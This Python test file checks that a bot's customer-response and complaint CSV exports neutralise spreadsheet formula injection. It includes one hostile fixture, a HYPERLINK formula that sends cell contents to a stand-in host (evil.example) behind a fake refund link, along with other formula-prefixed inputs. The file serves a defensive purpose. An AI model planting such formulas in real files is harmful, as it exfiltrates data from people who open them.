"""Exports owners open in spreadsheets carry no live formulas (OWASP CSV injection rule)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

from bot import spreadsheet
from bot.reports.export import complaints_csv, responses_csv
from storage.db import Database
from storage.migrate import migrate
from tests.support.backend import database_url
from tests.support.reportdata import add_complaint, add_response

SENT = datetime(2026, 10, 20, 12, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Click for refund")'


def test_cells_starting_like_a_formula_become_text() -> None:
    for value in ("=1+2", "+SUM(1,2)", "-2+3", "@cmd", "\tx", "\rx"):
        assert spreadsheet.cell(value) == "'" + value
    assert spreadsheet.cell("fine = ok") == "fine = ok" and spreadsheet.cell(-3) == -3
    assert spreadsheet.row(["=A1", 5, None]) == ["'=A1", 5, None]


async def test_responses_and_complaints_csv_neutralise_formulas(tmp_path: Path) -> None:
    db = Database(database_url(tmp_path, "t"))
    await db.connect()
    await migrate(db.conn)
    try:
        async with db.transaction() as tx:
            await add_response(tx.conn, 1, SENT, 2, comment=EVIL, branch="+SUM(1,2)")
            await tx.conn.execute("UPDATE purchases SET order_id = '=1+2' WHERE id = 1")
            await add_complaint(tx.conn, 1, 1, SENT)
            await tx.conn.execute("UPDATE complaints SET text = ? WHERE id = 1", ("@SUM(A1)",))
        async with db.read() as tx:
            start, end = SENT - timedelta(days=1), SENT + timedelta(days=1)
            responses, _ = await responses_csv(tx, start, end)
            complaints, _ = await complaints_csv(tx, start, end)
    finally:
        await db.close()
    response = next(csv.DictReader(io.StringIO(responses.decode("utf-8-sig"))))
    assert response["comment"] == "'" + EVIL
    assert (response["order_id"], response["branch"]) == ("'=1+2", "'+SUM(1,2)")
    assert response["nps"] == "2"
    complaint = next(csv.DictReader(io.StringIO(complaints.decode("utf-8-sig"))))
    assert complaint["text"] == "'@SUM(A1)"
